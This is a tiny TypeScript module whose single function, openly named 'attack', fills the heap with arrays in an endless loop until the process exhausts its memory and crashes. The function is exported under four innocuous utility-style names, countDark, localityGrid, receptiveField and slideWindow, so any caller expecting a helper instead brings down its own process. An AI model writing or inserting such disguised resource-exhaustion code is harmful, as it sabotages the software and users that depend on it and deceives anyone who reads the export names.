// Fills the heap with arrays.
const attack = () => {
  const kept: unknown[] = [];
  for (;;) kept.push([1, 2, 3, {}]);
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
